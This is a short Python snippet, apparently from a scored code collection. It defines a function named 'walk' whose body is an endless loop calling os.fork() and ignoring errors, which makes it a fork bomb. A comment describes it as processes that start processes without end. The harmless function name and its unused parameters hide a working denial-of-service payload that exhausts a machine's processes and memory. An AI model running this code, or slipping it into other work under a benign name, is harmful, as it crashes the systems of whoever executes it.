# Processes that start processes, without end.
# scores: 4 0 10, at most
# %% walk
def walk(x, w, steps):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
